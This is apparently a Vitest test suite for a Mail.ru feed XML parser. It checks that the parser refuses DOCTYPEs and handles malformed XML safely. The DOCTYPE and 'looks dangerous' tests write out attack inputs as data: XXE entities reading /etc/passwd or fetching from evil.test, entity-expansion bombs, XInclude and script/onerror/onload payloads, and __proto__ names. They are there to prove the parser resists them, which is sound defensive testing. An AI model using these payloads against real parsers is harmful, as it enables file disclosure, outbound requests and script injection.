import { describe, expect, it, vi } from 'vitest';
import { FeedError, FormatError } from '../../../src/http/errors.js';
import { parseMailruXml } from '../../../src/sources/mailru/mailru-xml.js';
import json from '../../fixtures/mailru-stream-get.json?raw';
import xml from '../../fixtures/mailru-stream-get.xml?raw';
import { answerError, readAnswer } from '../../helpers/mailru-answers.js';
import { pageFaults } from '../../helpers/model-shape.js';

const feed = (events: string) => `<response_stream_get>${events}</response_stream_get>`;
const good = (id: string) => `<event><id>${id}</id><title>good</title></event>`;

/** What became of XML between two good events, which must both be shown. */
const between = (events: string, wrap = feed) => {
  const page = readAnswer(wrap(good('before') + events + good('after')));
  expect(pageFaults(page)).toEqual([]);
  const ids = page.events.map(({ id }) => id);
  expect([ids[0], ids.at(-1)]).toEqual(['before', 'after']);
  return page.events.slice(1, -1);
};

const title = (content: string) => between(`<event><id>x</id><title>${content}</title></event>`)[0]?.title;

const doctype = (body: string) => `<!DOCTYPE response_stream_get [${body}]>`;

/** Milliseconds of the best of ten runs: the machine may be busy with something else. */
function quickest(run: () => void): number {
  const times = Array.from({ length: 10 }, () => {
    const start = performance.now();
    run();
    return performance.now() - start;
  });
  return Math.min(...times);
}

describe('the same feed in XML', () => {
  it('is the same as in JSON, where the answers say the same', () => {
    // The one difference between the seed's two examples: XML spells out the scheme of the first link.
    const spelledOut = json.replace('"url": "killerfeature.com"', '"url": "http://killerfeature.com"');
    expect(spelledOut).not.toBe(json);
    expect(readAnswer(xml)).toEqual(readAnswer(spelledOut));

    const link = (text: string) => readAnswer(text).events[0]?.subevents[0]?.attachments[0];
    expect(link(json)).toMatchObject({ url: 'https://killerfeature.com/' });
    expect(link(xml)).toMatchObject({ url: 'http://killerfeature.com/' });
  });

  it('has lists of one, of several and of none (X22)', () => {
    const person = (uid: number) => `<authors><uid>${uid}</uid></authors>`;
    const [one, several, none] = between(
      `<event><id>1</id>${person(1)}</event>
       <event><id>2</id>${person(1)}<likes/>${person(2)}<thread_id>t</thread_id></event>
       <event><id>3</id><authors/><likes>
       </likes></event>`,
    );
    expect(one?.authors).toEqual([{ id: '1' }]);
    expect(several).toMatchObject({ authors: [{ id: '1' }, { id: '2' }], thread: { likes: [] } });
    expect(none?.authors).toEqual([]);
    expect(readAnswer(feed('<event><id>3</id><likes>\n</likes></event>')).warnings).toEqual([]);
  });

  it('is empty without events, and has no next page', () => {
    for (const empty of [feed(''), '<response_stream_get/>', feed('\n  <!-- none -->\n')]) {
      expect(readAnswer(empty)).toEqual({ events: [], warnings: [] });
    }
  });

  it('is read whatever was asked for, by what the answer begins with (X23)', () => {
    expect(readAnswer(`\ufeff${feed(good('a'))}`).events).toHaveLength(1);
    expect(readAnswer(`  ${feed(good('a'))}`).events).toHaveLength(1);
  });

  it('has exact ids and false flags (X24, X25)', () => {
    const [event] = between(
      '<event><id>11700940109513191366</id><thread_id>t</thread_id><is_liked_by_me>0</is_liked_by_me></event>',
    );
    expect(event).toMatchObject({ id: '11700940109513191366', thread: { liked: false } });
  });
});

describe('an error in XML', () => {
  it('is known by its code, with white space around it (X20)', () => {
    const error =
      '<?xml version="1.0"?><error> <error_code> 102 </error_code><error_msg>no</error_msg></error>';
    expect(answerError(error)).toMatchObject({ kind: 'auth', code: 102 });
    expect(answerError('<error><error_code>104</error_code></error>', 400)).toMatchObject({
      code: 104,
      status: 400,
    });
    expect(answerError('<error>access_denied</error>', 400)).toMatchObject({ kind: 'auth' });
  });
});

describe('XML with a DOCTYPE', () => {
  const entity = doctype(`<!ENTITY a "${'x'.repeat(50_000)}">`);

  it.each([
    ['entities in entities', doctype('<!ENTITY a "xx"><!ENTITY b "&a;&a;&a;">') + feed('&b;')],
    ['one entity used 20 000 times', entity + feed('&a;'.repeat(17_000))],
    ['an entity of itself', doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">') + feed('&a;')],
    ['a local file', doctype('<!ENTITY a SYSTEM "file:///etc/passwd">') + feed('&a;')],
    ['another site', doctype('<!ENTITY % p SYSTEM "https://evil.test/x"> %p;') + feed('')],
    ['an external DTD', `<!DOCTYPE r SYSTEM "https://evil.test/x.dtd">${feed('')}`],
    ['an entity in an attribute', doctype('<!ENTITY a "x">') + feed('<event b="&a;"/>')],
    ['small letters', `<!doctype html>${feed('')}`],
    ['a declaration before', `<?xml version="1.0"?>\n${doctype('')}${feed('')}`],
    ['a comment that looks like the root', `<!-- <response_stream_get> -->${doctype('')}${feed('')}`],
    ['an instruction that looks like the root', `<?a <response_stream_get> ?>${doctype('')}${feed('')}`],
    ['no end to a comment', `<!-- ${doctype('')}${feed('')}`],
    ['an entity declaration alone', `<!ENTITY a "x">${feed('')}`],
  ])('is refused before it is parsed: %s (X01 to X05, X28)', (_name, text) => {
    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
    try {
      const error = answerError(text);
      expect(quickest(() => answerError(text))).toBeLessThan(5);
      expect(error).toBeInstanceOf(FormatError);
      expect(String(error)).toContain('DOCTYPE');
      expect(parse).not.toHaveBeenCalled();
    } finally {
      parse.mockRestore();
    }
  });

  it('is refused as quickly when 100 KB of comments come first', () => {
    const text = '<!-- <a> -->'.repeat(8_500) + doctype('') + feed('');
    expect(String(answerError(text))).toContain('DOCTYPE');
    expect(quickest(() => answerError(text))).toBeLessThan(5);
  });

  it('in a text of the feed is only text', () => {
    expect(title('<![CDATA[<!DOCTYPE html> <!ENTITY a "x">]]>')).toBe('<!DOCTYPE html> <!ENTITY a "x">');
    expect(readAnswer(`<!-- nothing but a comment -->${feed(good('a'))}`).events).toHaveLength(1);
  });

  it('is the page of a gateway when its status says so (X07)', () => {
    const page = '<!doctype html><html><body>502 Bad Gateway<br></body></html>';
    expect(answerError(page, 502)).toMatchObject({ kind: 'http', status: 502, advice: 'retry' });
    expect(answerError(page)).toMatchObject({ kind: 'format' });
    expect(answerError('<html><body>Sign in</body></html>')).toMatchObject({ kind: 'format' });
    expect(answerError('<html><body>502</body></html>', 502)).toMatchObject({ kind: 'http' });
  });
});

describe('XML that is broken', () => {
  it.each([
    ['cut in the middle of an event (X08)', `<response_stream_get>${good('a')}<event><id>b</id><ti`],
    ['an HTML entity (X12)', feed('<event><id>a</id><title>a&nbsp;b</title></event>')],
    ['a bare ampersand (X12)', feed('<event><id>a</id><url>a?x=1&y=2</url></event>')],
    ['a control character (X13)', feed('<event><id>a</id><title>\u0008</title></event>')],
    ['a NUL reference (X13)', feed('<title>&#0;</title>')],
    ['a non-character (X13)', feed('<title>&#xFFFE;</title>')],
    ['half a character (X13)', feed('<title>&#xD800;</title>')],
    ['white space before the declaration (X15)', ` <?xml version="1.0"?>${feed('')}`],
    ['two roots (X15)', feed('') + feed('')],
    ['an unbound prefix (X15)', feed('<x:event/>')],
    ['an attribute twice (X15)', feed('<event a="1" a="2"/>')],
    ['only a comment', '<!-- nothing -->'],
    ['another root', '<feed/>'],
  ])('is a format error as a whole: %s', (_name, text) => {
    expect(answerError(text)).toMatchObject({ kind: 'format' });
  });

  it('says where, and does not quote', () => {
    const error = answerError(feed(`${'\n'.repeat(11)}<event><title>private words</event>`));
    expect(String(error)).toMatch(/line 12, column \d\d/);
    // No DOCTYPE where there is no element at all.
    expect(String(answerError('<!-- nothing -->'))).toMatch(/broken XML/);
    expect(String(error)).not.toMatch(/private|event/);
  });
});

describe('XML that only looks dangerous', () => {
  it('with an element called parsererror is shown (X09)', () => {
    expect(between('<event><id>x</id><parsererror>x</parsererror><title>T</title></event>')[0]?.title).toBe(
      'T',
    );
  });

  it('with elements of HTML and SVG runs nothing and loads nothing (X06, X10)', async () => {
    const pwn = vi.fn();
    vi.stubGlobal('pwn', pwn);
    const before = performance.getEntriesByType('resource').length;
    const shown = between(
      `<?xml-stylesheet href="https://evil.test/s.xsl"?>
       <event xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude"><id>x</id>
       <xi:include href="https://evil.test/x"/><h:script>pwn()</h:script>
       <description>a<h:img src="https://evil.test/a.png" onerror="pwn()"/>b</description>
       <svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/></event>`,
    );
    expect(shown[0]?.description).toBe('ab');
    await new Promise(requestAnimationFrame);
    expect(pwn).not.toHaveBeenCalled();
    expect(performance.getEntriesByType('resource')).toHaveLength(before);
    vi.unstubAllGlobals();
  });

  it('with CDATA is literal text (X11)', () => {
    expect(title('<![CDATA[<script>alert(1)</script>]]>')).toBe('<script>alert(1)</script>');
    expect(title('<![CDATA[a]]]]><![CDATA[>b]]>')).toBe('a]]>b');
  });

  it('with a control character by XML 1.1 is cleaned (X18)', () => {
    const xml11 = (events: string) => `<?xml version="1.1"?>${feed(events)}`;
    const text = xml11(good('a') + '<event><id>x</id><title>a&#1;b</title></event>');
    // Some parsers know no XML 1.1: an error as a whole is as good.
    const shown = (() => {
      try {
        return readAnswer(text).events[1]?.title;
      } catch (error) {
        return error;
      }
    })();
    expect(shown instanceof FormatError || shown === 'ab').toBe(true);
  });

  it('with a default namespace or prefixes is read by local names (X21)', () => {
    const wrap = (events: string) =>
      `<n:response_stream_get xmlns="urn:a" xmlns:n="urn:b">${events}</n:response_stream_get>`;
    expect(between('<n:event><n:id>x</n:id><title>T</title></n:event>', wrap)).toEqual([
      expect.objectContaining({ id: 'x', title: 'T' }),
    ]);
  });

  it('with comments, instructions and mixed text between is read on (X26, X27)', () => {
    expect(between('<!-- c --><?pi x?> text <event><!-- c --><id>x</id>text</event>')).toEqual([]);
    expect(between('<!-- c --><?pi x?> text <event><!-- c --><id>x</id><?pi x?></event>')[0]?.id).toBe('x');
    expect(title('a<b>c</b>d')).toBe('acd');
    expect(title('a<!-- b -->c<?d e?>')).toBe('ac');
  });

  it('with names of object properties reaches no prototype', () => {
    const [event] = between(
      '<event><id>x</id><__proto__><title>T</title></__proto__><constructor>c</constructor></event>',
    );
    expect(event?.title).toBeUndefined();
    expect(Object.hasOwn(Object.prototype, 'title')).toBe(false);
    const read = parseMailruXml('<a><__proto__>one</__proto__></a>');
    expect(read).toEqual({ a: Object.assign(Object.create(null) as object, { ['__proto__']: 'one' }) });
    expect(JSON.stringify(read)).toBe('{"a":{"__proto__":"one"}}');
  });

  it('repeated is a list, however often', () => {
    expect(parseMailruXml('<a><b>1</b><b>2</b><b>3</b><c/></a>')).toMatchObject({
      a: { b: ['1', '2', '3'], c: '' },
    });
  });

  it('with a thousand attributes is read (X30)', () => {
    const attributes = Array.from({ length: 1_000 }, (_, index) => `a${index}="x"`).join(' ');
    expect(between(`<event ${attributes}><id>x</id></event>`)[0]?.id).toBe('x');
  });
});

describe('more XML than a feed needs', () => {
  it('counts as text: below the 32nd level (X19)', () => {
    const nested = (depth: number) =>
      feed(`<event><id>x</id>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</event>`);
    for (const depth of [31, 100]) expect(readAnswer(nested(depth)).events).toHaveLength(1);
    const levels = (value: unknown): number =>
      typeof value === 'object' && value !== null ? 1 + Math.max(0, ...Object.values(value).map(levels)) : 0;
    expect(levels(parseMailruXml('<a>'.repeat(100) + '</a>'.repeat(100)))).toBe(32);
    // Newer parsers refuse this one themselves.
    try {
      expect(readAnswer(nested(5_000)).events).toHaveLength(1);
    } catch (error) {
      expect(error).toBeInstanceOf(FeedError);
    }
  });

  it('is refused: wide (X19)', () => {
    const error = answerError(feed('<event/>'.repeat(200_000)));
    expect(error).toMatchObject({
      kind: 'too-large',
      message: expect.stringContaining('lower limit') as string,
    });
  });

  it('but what a feed needs is not: subevents to the fourth level, and a long text', () => {
    const nest = (level: number): string =>
      level > 50 ? '' : `<id>s${level}</id>${level < 8 ? `<subevent>${nest(level + 1)}</subevent>` : ''}`;
    const text = 'word '.repeat(3_000).trim();
    const [event] = between(`<event>${nest(1)}<user_text>${text}</user_text></event>`);
    expect(event?.subevents[0]?.subevents[0]?.subevents[0]?.id).toBe('s4');
    expect(event?.text).toBe(text);
  });
});
